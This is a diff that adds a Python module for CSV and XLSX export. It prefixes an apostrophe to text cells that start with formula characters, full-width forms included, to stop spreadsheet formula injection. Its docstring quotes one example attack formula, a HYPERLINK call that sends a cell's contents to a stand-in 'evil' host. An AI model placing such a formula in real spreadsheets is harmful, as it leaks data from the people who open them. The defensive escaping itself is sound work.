@@ -1,0 +1,70 @@
+"""THE writer of spreadsheet exports (CSV and XLSX): every text cell is made inert.
+
+People open our exports in Excel/WPS. A text cell that starts with =, +, -, @, a tab or a
+carriage return — or their full-width forms ＝＋－＠, which WPS and Excel with a Chinese IME
+treat the same — is run as a formula (`=HYPERLINK("http://evil/?"&A2, "点击")`). An employee's
+name or a client's name is typed by people we do not control, so every text cell written by
+an export gets a leading apostrophe when it starts with one of those characters. Numbers,
+dates and Decimals stay typed values (sums still work), and a text that is a plain number
+("-5.00") stays as it is.
+
+Every export builds its file here: `csv_bytes(rows)` and `Sheet`. A test keeps
+`openpyxl.Workbook(` and `csv.writer(` out of every other module
+(tests/security/test_export_escaping.py).
+"""
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterable, Sequence
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:,\d{3})*(?:\.\d+)?")
+
+
+def safe_cell(value):
+    """`value` as a cell a spreadsheet will not run: text starting with a formula character gets
+    a leading apostrophe; anything that is not text is returned unchanged."""
+    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
+        return value
+    if _PLAIN_NUMBER.fullmatch(value):
+        return value
+    return "'" + value
+
+
+def safe_row(values: Iterable) -> list:
+    return [safe_cell(v) for v in values]
+
+
+def csv_bytes(rows: Iterable[Sequence]) -> bytes:
+    """A CSV in UTF-8 with BOM (what Excel in China opens without garbling), every cell escaped."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    for row in rows:
+        writer.writerow(safe_row(row))
+    return ("\ufeff" + out.getvalue()).encode("utf-8")
+
+
+class Sheet:
+    """One worksheet of a new workbook whose `append` escapes every cell. `ws` is the openpyxl
+    worksheet for styling (fonts, number formats, widths) — write values through `append`."""
+
+    def __init__(self, title: str):
+        from openpyxl import Workbook
+
+        self._workbook = Workbook()
+        self.ws = self._workbook.active
+        self.ws.title = title[:31]  # Excel's limit on a sheet name
+
+    def append(self, values: Iterable) -> None:
+        self.ws.append(safe_row(values))
+
+    def bytes(self) -> bytes:
+        buf = io.BytesIO()
+        self._workbook.save(buf)
+        return buf.getvalue()
+
+
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
